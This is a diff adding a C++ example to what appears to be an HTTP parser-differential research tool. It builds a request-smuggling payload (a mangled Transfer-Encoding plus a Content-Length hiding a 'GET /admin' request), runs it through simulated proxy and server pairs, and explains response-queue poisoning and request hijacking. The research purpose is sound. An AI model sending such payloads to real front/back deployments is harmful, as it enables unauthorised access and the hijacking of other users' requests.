@@ -1,0 +1,97 @@
+// Example: a focused request-smuggling hunt against one front/back pair,
+// showing the full exploit mechanics end to end — the ambiguous request,
+// what the proxy forwards, and the smuggled request the back-end exposes.
+#include <cstdio>
+#include <string>
+
+#include "impls/products.h"
+
+namespace {
+
+void dump_wire(const char* title, std::string_view bytes) {
+  std::printf("%s\n", title);
+  std::printf("  ");
+  for (char c : bytes) {
+    if (c == '\r') {
+      std::printf("\\r");
+    } else if (c == '\n') {
+      std::printf("\\n\n  ");
+    } else if (static_cast<unsigned char>(c) < 0x20) {
+      std::printf("\\x%02x", static_cast<unsigned char>(c));
+    } else {
+      std::printf("%c", c);
+    }
+  }
+  std::printf("\n");
+}
+
+}  // namespace
+
+int main(int argc, char** argv) {
+  std::string front_name = argc > 1 ? argv[1] : "ats";
+  std::string back_name = argc > 2 ? argv[2] : "tomcat";
+
+  auto front = hdiff::impls::make_implementation(front_name);
+  auto back = hdiff::impls::make_implementation(back_name);
+  if (!front || !back || !front->is_proxy() || !back->is_server()) {
+    std::fprintf(stderr,
+                 "usage: smuggle_hunt [front-proxy] [back-server]\n"
+                 "  proxies: apache nginx varnish squid haproxy ats\n"
+                 "  servers: iis tomcat weblogic lighttpd apache nginx\n");
+    return 1;
+  }
+
+  std::printf("=== Request smuggling hunt: %s (front) -> %s (back) ===\n\n",
+              front_name.c_str(), back_name.c_str());
+
+  // The attack payload: a mangled Transfer-Encoding plus a Content-Length
+  // that covers a smuggled request.  Recipients that ignore the mangled TE
+  // frame by CL (whole body = one request); recipients that repair/strip it
+  // terminate at the zero chunk and expose the suffix as a next request.
+  const std::string smuggled =
+      "GET /admin HTTP/1.1\r\nHost: h1.com\r\nX-Evil: 1\r\n\r\n";
+  const std::string body = "0\r\n\r\n" + smuggled;
+  const std::string attack =
+      "POST /upload HTTP/1.1\r\n"
+      "Host: h1.com\r\n"
+      "Transfer-Encoding: \x0b" "chunked\r\n"
+      "Content-Length: " + std::to_string(body.size()) + "\r\n\r\n" + body;
+
+  dump_wire("[1] Attacker's request as sent to the front-end:", attack);
+
+  auto pv = front->forward_request(attack);
+  if (!pv.forwarded()) {
+    std::printf("\n[2] %s REJECTS the request with status %d (%s).\n"
+                "    This pair is not exploitable via this payload.\n",
+                front_name.c_str(), pv.status, pv.reason.c_str());
+    return 0;
+  }
+  std::printf("\n[2] %s forwards the request (framed %zu body bytes).\n\n",
+              front_name.c_str(), pv.body.size());
+  dump_wire("    Forwarded bytes:", pv.forwarded_bytes);
+
+  auto sv = back->parse_request(pv.forwarded_bytes);
+  std::printf("\n[3] %s parses the forwarded bytes: status %d, body %zu "
+              "bytes, leftover %zu bytes.\n",
+              back_name.c_str(), sv.status, sv.body.size(),
+              sv.leftover.size());
+
+  if (sv.accepted() && !sv.leftover.empty()) {
+    std::printf("\n!!! SMUGGLING CONFIRMED: the back-end treats these bytes "
+                "as the NEXT request on the connection:\n\n");
+    dump_wire("    Smuggled request:", sv.leftover);
+    std::printf("\n    The next legitimate client request on this reused "
+                "connection will be answered with the\n"
+                "    response to %s — classic response-queue poisoning.\n",
+                sv.leftover.substr(0, sv.leftover.find('\r')).c_str());
+  } else if (sv.incomplete) {
+    std::printf("\n!!! DESYNC CONFIRMED: the back-end blocks waiting for "
+                "more bytes than the front sent.\n"
+                "    Subsequent requests on this connection are consumed as "
+                "body data (request hijacking).\n");
+  } else {
+    std::printf("\n    No boundary gap for this pair with this payload — "
+                "try other pairs (e.g. 'smuggle_hunt ats iis').\n");
+  }
+  return 0;
+}
